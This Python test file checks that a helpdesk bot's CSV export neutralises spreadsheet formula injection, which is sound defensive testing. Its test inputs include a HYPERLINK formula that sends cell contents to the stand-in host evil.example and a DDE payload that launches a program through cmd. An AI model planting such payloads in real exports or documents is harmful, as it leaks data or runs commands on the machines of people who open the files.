"""The helpdesk CSV export opened in Excel/LibreOffice: user text never runs as a formula (QA F15)."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime

import pytest

from bot.commands.helpdesk import unanswered_csv


@dataclass
class Row:
    question: str
    created_at: datetime = datetime(2026, 11, 21, 12, 0)
    programme: str | None = "cs"
    best_entry: str | None = None
    score: float | None = 0.2
    user_id: int | None = 7


@pytest.mark.parametrize(
    "question",
    [
        pytest.param('=HYPERLINK("http://evil.example/?"&A1;"kliknij")', id="equals"),
        pytest.param("@SUM(1+1)", id="at"),
        pytest.param("+48 123 456 789 cmd|' /C calc'!A0", id="plus"),
        pytest.param("-2+3", id="minus"),
        pytest.param("\t=1+1", id="tab"),
        pytest.param("\r=1+1", id="carriage-return"),
    ],
)
def test_formula_cells_are_neutralised(question: str) -> None:
    text = unanswered_csv([Row(question)], {7: "terminal:7"})
    cells = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1]
    assert cells[2] == "'" + question.strip("\r")  # a line break inside a question becomes a space
    assert cells[4] == "0,20"  # numbers stay numbers


def test_ordinary_question_is_unchanged() -> None:
    text = unanswered_csv([Row("Czy laptop = komputer?")], {7: "terminal:7"})
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1][2] == "Czy laptop = komputer?"
